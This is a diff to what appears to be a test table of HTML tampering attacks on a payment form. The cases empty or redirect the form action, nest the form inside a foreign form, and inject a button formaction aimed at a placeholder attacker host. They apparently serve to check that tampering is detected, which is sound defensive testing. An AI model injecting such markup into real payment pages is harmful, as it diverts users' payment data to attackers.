@@ -194,7 +194,7 @@ ATTACKS: Final[dict[str, tuple[Tamper, str, str]]] = {
     "no action": (page(r'(<form\s+class="pay"[^>]+action=")[^"]+', r"\1"), "form", 'action=""'),
     "another payment's": (page(r'(<form\s+class="pay"[^>]+action=")[^"]+', r"\1/en/payment/x/pay"),
                           "form", "/x/pay"),
-    "a form around ours": (page("<form\n", '<form class="language"><form '),
+    "a form around ours": (page("<form\n", '<form class="language" id="language"><form '),
                            "form", 'class="pay"'),
     "a button's own action": (page("<button", f'<button formaction="{EVIL}"'),
                               "markup", "formaction"),
